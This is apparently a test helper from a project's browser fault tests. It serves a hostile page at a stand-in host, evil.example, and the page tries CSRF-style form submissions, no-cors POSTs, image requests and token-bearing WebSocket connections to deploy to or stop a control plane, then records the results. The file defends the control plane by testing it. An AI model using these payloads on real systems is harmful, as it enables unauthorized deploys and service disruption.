"""A web site that means harm: its page does to a control plane what scripts and forms of a browser can do.

Used by `tests/faults/test_browsers.py`. `seen` is what the page could tell of each attempt, once it has tried all.
"""

import asyncio
import base64
import contextlib
import json
from collections.abc import AsyncIterator

from tests.support.browser import visiting
from tests.support.patience import PATIENCE_SECONDS

HOST = "evil.example"

_PAGE = """<!doctype html><iframe name="hidden"></iframe><script>
const {target, api, agent, deploy} = JSON.parse(atob("%s"));
const body = JSON.stringify(deploy), bearer = {Authorization: "Bearer " + api};
const json = {"Content-Type": "application/json"}, form = {"Content-Type": "application/x-www-form-urlencoded"};
const read = (path, options) => fetch(target + path, options).then(answer => answer.text());
const send = (path, options) => fetch(target + path, {method: "POST", mode: "no-cors", ...options}).then(() => "sent");
const dial = (query, protocols) => new Promise(done => {
  const socket = new WebSocket(target.replace("http", "ws") + "/ws" + query, protocols);
  socket.onopen = () => done("connected");
  socket.onerror = () => done("refused");
});
const submit = (path, enctype, text) => new Promise(done => {
  const form = Object.assign(document.createElement("form"),
    {method: "POST", action: target + path, enctype: enctype, target: "hidden"});
  const [name, ...value] = text.split("=");
  form.append(Object.assign(document.createElement("input"), {name: name, value: value.join("=")}));
  document.body.append(form);
  document.querySelector("iframe").onload = () => done("sent");
  form.submit();
});
const picture = path => new Promise(done => {
  Object.assign(new Image(), {onload: () => done("shown"), onerror: () => done("sent")}).src = target + path;
});
const attempts = {
  "socket": () => dial("", []),
  "socket with the secret": () => dial("?token=" + agent + "&hostname=page", [agent]),
  "read": () => read("/jobs"),
  "read with the token": () => read("/jobs", {headers: bearer}),
  "read what is public": () => read("/health"),
  "deploy": () => read("/deploy", {method: "POST", headers: json, body: body}),
  "deploy with the token": () => read("/deploy", {method: "POST", headers: {...json, ...bearer}, body: body}),
  "deploy as text": () => send("/deploy", {body: body}),
  "deploy as a form": () => send("/deploy", {headers: form, body: body}),
  "deploy with a query": () => send("/deploy?wait=0", {body: body}),
  "deploy by a form": () => submit("/deploy", "text/plain", body.replace("}", ', "x": "=')),
  "status by a picture": () => picture("/projects/web/status"),
  "stop": () => send("/projects/web/stop", {}),
  "stop by a form": () => submit("/projects/web/stop", "application/x-www-form-urlencoded", "a=b"),
};
(async () => {
  const seen = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { seen[name] = await attempt(); } catch (error) { seen[name] = "stopped"; }
  }
  await fetch("/seen", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""


class EvilSite:
    """Serves the page; `origin` is where."""

    def __init__(self, page: bytes) -> None:
        self._page = page
        self.origin = ""
        self.seen: asyncio.Future[dict[str, str]] = asyncio.get_running_loop().create_future()

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Answer one request, which is for the page or tells what it saw."""
        with contextlib.closing(writer), contextlib.suppress(asyncio.IncompleteReadError, ConnectionError):
            head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
            if head.startswith("post"):
                length = int(head.partition("content-length: ")[2].split()[0])
                self.seen.set_result(json.loads(await reader.readexactly(length)))
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n" + self._page)
            await writer.drain()


@contextlib.asynccontextmanager
async def evil_site(page: bytes) -> AsyncIterator[EvilSite]:
    """Run the site for the length of a `with` block."""
    site = EvilSite(page)
    server = await asyncio.start_server(site.serve, "127.0.0.1", 0)
    site.origin = f"http://{HOST}:{server.sockets[0].getsockname()[1]}"
    async with server:
        yield site


async def visit(target: str, api_token: str, agent_token: str, deploy: dict[str, str]) -> dict[str, str]:
    """Have a browser visit the site, whose page attacks the control plane at `target` and even knows its tokens.

    `deploy`: the body of the deploy that it tries to send. Returns what the page saw of each attempt.
    """
    known = {"target": target, "api": api_token, "agent": agent_token, "deploy": deploy}
    page = (_PAGE % base64.b64encode(json.dumps(known).encode()).decode()).encode()
    async with evil_site(page) as site, visiting(site.origin + "/", f"--host-resolver-rules=MAP {HOST} 127.0.0.1"):
        async with asyncio.timeout(2 * PATIENCE_SECONDS):
            return await site.seen
